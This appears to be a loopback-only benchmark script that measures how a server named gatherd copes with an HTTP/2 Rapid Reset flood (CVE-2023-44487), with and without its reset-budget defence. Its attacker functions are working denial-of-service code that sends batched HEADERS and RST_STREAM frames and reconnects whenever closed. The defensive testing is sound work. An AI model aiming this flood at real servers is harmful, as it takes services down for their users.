#!/usr/bin/env python3
"""HTTP/2 Rapid Reset against gatherd, with and without its containment (http2_reset_budget),
side by side in one run: an attacker opens and resets streams on an endpoint whose upstream is
slow, reconnecting whenever gatherd closes its connection, for DURATION_S; meanwhile normal
clients GET a fast endpoint over HTTP/1.1. Two attackers: "rapid" sends each HEADERS with its
RST_STREAM (CVE-2023-44487 as published); "late" sends 100 HEADERS, waits 5 ms so that their
calls have started, then resets them all, and again. For comparison, "http1" opens an HTTP/1.1
connection, sends one request, waits 5 ms and closes it, and again (what HTTP/1 allows). Prints, for each setting: upstream connections
opened, streams the attacker sent, GOAWAYs, gatherd CPU seconds, normal requests' statuses and
latency (p50, p99, max). Loopback only; stops by itself.

    python3 tests/bench/h2_rapid_reset.py [ATTACKERS [rapid|late|http1 [BUDGET...]]]
    (GATHERD_BIN=build/gatherd; BUDGET "off" for http2_reset_budget false, "-" for the default)
"""

import os
import socket
import struct
import sys
import threading
import time
import urllib.request

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, '..', 'integration'))
from harness import Gatherd, StubUpstream, call, config, endpoint, now  # noqa: E402
from test_client_gone import H2, frame, get_headers  # noqa: E402

DURATION_S = 10.0
NORMAL_CLIENTS = 2
BATCH = 50


def cpu_seconds(pid):
    with open('/proc/%d/stat' % pid) as f:
        fields = f.read().rsplit(')', 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf('SC_CLK_TCK')


def metric(admin, name):
    with urllib.request.urlopen('http://127.0.0.1:%d/metrics' % admin, timeout=5) as r:
        for ln in r.read().decode().splitlines():
            if ln.startswith(name + ' '):
                return int(float(ln.split()[1]))
    return -1  # a gatherd without the metric


def http1_attacker(port, stop, stats):
    req = b'GET /slow HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n'
    while not stop.is_set():
        try:
            s = socket.create_connection(('127.0.0.1', port), timeout=5)
        except OSError:
            continue
        try:
            s.sendall(req)
            time.sleep(0.005)
            stats['streams'] += 1
        except OSError:
            stats['closed'] += 1
        finally:
            s.close()


def attacker(port, stop, stats, mode):
    if mode == 'http1':
        return http1_attacker(port, stop, stats)
    is_late = mode == 'late'
    while not stop.is_set():
        try:
            h2 = H2(port)
        except OSError:
            continue
        sid = 1
        try:
            while not stop.is_set() and sid < 2 ** 31 - 2 * BATCH:
                n = 100 if is_late else BATCH
                heads, resets = b'', b''
                for _ in range(n):
                    heads += frame(1, 0x5, sid, get_headers('/slow', h2.authority))
                    resets += frame(3, 0, sid, struct.pack('>I', 0x8))
                    sid += 2
                if is_late:
                    h2.sock.sendall(heads)
                    time.sleep(0.005)
                    h2.sock.sendall(resets)
                else:
                    h2.sock.sendall(heads + resets)
                stats['streams'] += n
        except OSError:
            stats['closed'] += 1
        finally:
            h2.close()


def normal(gd, stop, results):
    conn = gd.connection(timeout=10)
    while not stop.is_set():
        try:
            st, _, _, elapsed = gd.request('GET', '/fast', conn=conn)
            results.append((st, elapsed))
        except OSError as e:
            results.append((type(e).__name__, 0.0))
            conn.close()
            conn = gd.connection(timeout=10)
    conn.close()


def run(budget, attackers, mode):
    stub = StubUpstream()
    stub.add('/slow', json={'slow': True}, delay_ms=3000)
    stub.add('/fast', json={'ok': True})
    top = {'http2': True}
    if budget is not None:
        top['http2_reset_budget'] = budget
    gd = Gatherd(config([endpoint('/slow', {'s': call('s', '/slow', timeout_ms=5000)},
                                  timeout_ms=5000),
                         endpoint('/fast', {'f': call('s', '/fast')})],
                        {'s': stub}, log={'level': 'warn'}, **top))
    try:
        stop = threading.Event()
        stats = {'streams': 0, 'closed': 0}
        results = []
        cpu0, t0 = cpu_seconds(gd.pid), now()
        threads = [threading.Thread(target=attacker, args=(gd.port, stop, stats, mode),
                                    daemon=True)
                   for _ in range(attackers)]
        threads += [threading.Thread(target=normal, args=(gd, stop, results), daemon=True)
                    for _ in range(NORMAL_CLIENTS)]
        for t in threads:
            t.start()
        stop.wait(DURATION_S)
        stop.set()
        for t in threads:
            t.join(15)
        cpu, took = cpu_seconds(gd.pid) - cpu0, now() - t0
        lat = sorted(e for s, e in results if s == 200)
        errors = len([r for r in results if r[0] != 200])
        goaways = metric(int(gd.cfg['admin_listen'].rsplit(':', 1)[1]),
                         'gatherd_http2_reset_goaways_total')

        def pct(p):
            return lat[min(len(lat) - 1, int(p * len(lat)))] * 1000 if lat else float('nan')
        print('%-22s upstream conns %6d | attack streams %7d, conns closed by gatherd %4d, '
              'GOAWAYs %4d | gatherd CPU %.1f s of %.1f s | normal: %d ok, %d errors, '
              'p50 %.1f ms, p99 %.1f ms, max %.1f ms'
              % ('budget %s' % ('off' if budget is False else budget or 'default (100)'),
                 stub.connections_accepted, stats['streams'], stats['closed'], goaways, cpu, took,
                 len(lat), errors, pct(0.5), pct(0.99), lat[-1] * 1000 if lat else float('nan')))
        sys.stdout.flush()
    finally:
        gd.close()
        stub.stop()


if __name__ == '__main__':
    n = int(sys.argv[1]) if len(sys.argv) > 1 else 1
    mode = sys.argv[2] if len(sys.argv) > 2 else 'rapid'
    budgets = [False if b == 'off' else None if b == '-' else int(b) for b in sys.argv[3:]]
    print('%d %s attacking connection(s), reconnecting when closed, %d normal HTTP/1.1 '
          'clients, %.0f s each (%s)' % (n, mode, NORMAL_CLIENTS,
                                         DURATION_S, os.environ.get('GATHERD_BIN', 'build')))
    for b in budgets or [False, None]:
        run(b, n, mode)
